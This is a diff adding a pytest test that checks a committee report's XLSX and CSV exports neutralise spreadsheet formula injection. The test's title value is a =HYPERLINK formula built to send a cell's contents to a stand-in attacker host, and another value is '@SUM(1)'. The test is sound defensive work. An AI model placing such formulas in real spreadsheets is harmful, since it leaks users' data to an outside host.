@@ -1,5 +1,6 @@
 """The committee report (PDF/XLSX/CSV), target import and the target pages."""
 
+import csv
 import io
 
 import pytest
@@ -60,6 +61,23 @@ def test_xlsx_and_csv_hold_the_same_figures(org, data):
     text = report.build(data, None, "csv").decode("utf-8-sig")
     assert "Børneindsatsen;mål nået eller forbedret;personlig udvikling;2025;15;20;75,0 %;53,1 %;88,8 %;75,0 %" in text
     assert "Ungeindsatsen;mål nået eller forbedret;personlig udvikling;2025;færre end 5;færre end 5;;;" in text
+
+
+def test_an_initiative_titled_as_a_formula_stays_text_in_xlsx_and_csv(org, data):
+    hostile = '=HYPERLINK("http://angriber.example/?x="&B2;"Se tal")'
+    data.kids.title = hostile
+    data.kids.save()
+    StatusUpdate.objects.create(
+        initiative=data.kids, date="2025-07-01", status="i_gang", light="groen", narrative="@SUM(1)"
+    )
+    book = load_workbook(io.BytesIO(report.build(data, org.leadership, "xlsx")))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert hostile in [c.value for c in cells] and "@SUM(1)" in [c.value for c in cells]
+    text = report.build(data, org.leadership, "csv").decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'" + hostile in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
 
 
 def test_report_command_writes_a_file(org, data, tmp_path):
